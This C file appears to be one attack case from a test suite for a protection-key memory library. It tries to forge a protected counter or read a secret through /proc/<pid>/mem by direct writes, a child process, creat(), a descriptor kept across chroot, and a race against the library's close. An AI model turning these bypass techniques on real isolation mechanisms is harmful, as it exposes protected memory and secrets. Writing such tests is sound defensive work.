/* /proc/<pid>/mem reaches memory without PKU checks.
 * proc_mem write|read: this process; proc_mem child: a program it execs
 * (the same binary, another address space) writes the parent's memory;
 * proc_mem creat: opened for writing by creat() instead of open();
 * proc_mem chroot: opened relative to /proc/self kept from before a chroot
 * into an empty directory, where its name can no longer be read;
 * proc_mem race: a second thread writes through the number the refused
 * open gets, in the moment between the open and libprotect's close. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/wait.h>
#include <unistd.h>

static int open_mem(pid_t pid, int flags)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    int fd = open(path, flags);
    if (fd < 0) 
        blocked_errno("open %s", path);
    return fd;
}

/* Writes the forged counter into C through FD (a /proc/<pid>/mem), then
 * asks the library whether its counter changed. */
__attribute__((noreturn)) static void write_counter_through(int fd, struct vault_cell *c)
{
    uint64_t forged = FORGED_COUNTER;
    if (pwrite(fd, &forged, 8, (off_t)(uintptr_t)&c->counter) != 8)
        blocked("pwrite failed");
    if (vault_counter(VAULT_DATA) == FORGED_COUNTER)
        breached("changed the library's counter through /proc/self/mem");
    blocked("the counter did not change");
}

static atomic_int racing = 1;
static int next_fd;
static struct vault_cell *target;

static void *write_through_next_fd(void *unused)
{
    uint64_t forged = FORGED_COUNTER;
    while (atomic_load_explicit(&racing, memory_order_relaxed))
        if (pwrite(next_fd, &forged, 8, (off_t)(uintptr_t)&target->counter) == 8)
            break;
    return NULL;
}

/* Opens /proc/self/mem 20000 times while the other thread writes through
 * the number each open would get. */
__attribute__((noreturn)) static void race_the_close(void)
{
    next_fd = dup(0);
    close(next_fd);
    pthread_t t;
    pthread_create(&t, NULL, write_through_next_fd, NULL);
    int refused = 0;
    for (int i = 0; i < 20000 && vault_counter(VAULT_DATA) != FORGED_COUNTER; i++) {
        int fd = open("/proc/self/mem", O_RDWR);
        if (fd >= 0)
            breached("/proc/self/mem opened");
        refused += errno == EPERM;
    }
    atomic_store(&racing, 0);
    pthread_join(t, NULL);
    if (vault_counter(VAULT_DATA) == FORGED_COUNTER)
        breached("changed the library's counter through the refused /proc/self/mem before it was closed");
    char msg[96];
    snprintf(msg, sizeof msg, "the counter did not change (%d opens refused)", refused);
    blocked(msg);
}

int main(int argc, char **argv)
{
    const char *how = argc > 1 ? argv[1] : "";
    if (strcmp(how, "child-exec") == 0) { /* in the exec'd child: PID ADDR */
        int fd = open_mem((pid_t)atoi(argv[2]), O_RDWR);
        uint64_t forged = FORGED_COUNTER;
        if (pwrite(fd, &forged, 8, (off_t)strtoull(argv[3], NULL, 16)) != 8)
            blocked("pwrite failed");
        printf("child wrote\n");
        return 0;
    }
    vault_open();
    struct vault_cell *c = vault_address(VAULT_DATA);
    if (strcmp(how, "write") == 0) {
        int fd = open_mem(getpid(), O_RDWR);
        write_counter_through(fd, c);
    }
    if (strcmp(how, "chroot") == 0) {
        char dir[] = "/tmp/attack-chroot-XXXXXX";
        int self = open("/proc/self", O_PATH | O_DIRECTORY);
        if (self < 0 || !mkdtemp(dir))
            blocked("no /proc/self to keep");
        if (chroot(dir) != 0 || chdir("/") != 0) 
            blocked_errno("chroot");
        int fd = openat(self, "mem", O_RDWR);
        if (fd < 0) 
            blocked_errno("openat(/proc/self, mem)");
        write_counter_through(fd, c);
    }
    if (strcmp(how, "race") == 0) {
        target = c;
        race_the_close();
    }
    if (strcmp(how, "creat") == 0) {
        int fd = creat("/proc/self/mem", 0600);
        if (fd < 0) 
            blocked_errno("creat /proc/self/mem");
        write_counter_through(fd, c);
    }
    if (strcmp(how, "read") == 0) {
        int fd = open_mem(getpid(), O_RDONLY);
        uint8_t copy[VAULT_SECRET_LEN];
        if (pread(fd, copy, sizeof copy, (off_t)(uintptr_t)c->secret) != (ssize_t)sizeof copy)
            blocked("pread failed");
        read_secret_at(VAULT_DATA, copy);
    }
    if (strcmp(how, "child") == 0) {
        char pid[16], addr[32];
        snprintf(pid, sizeof pid, "%d", (int)getpid());
        snprintf(addr, sizeof addr, "%lx", (unsigned long)(uintptr_t)&c->counter);
        pid_t child = fork();
        if (child == 0) {
            execl("/proc/self/exe", argv[0], "child-exec", pid, addr, (char *)NULL);
            _exit(127);
        }
        int status;
        waitpid(child, &status, 0);
        fflush(stdout);
        if (vault_counter(VAULT_DATA) == FORGED_COUNTER)
            breached("a child changed the library's counter through /proc/<ppid>/mem");
        blocked("the counter did not change");
    }
    fprintf(stderr, "unknown attack '%s'\n", how);
    return 2;
}
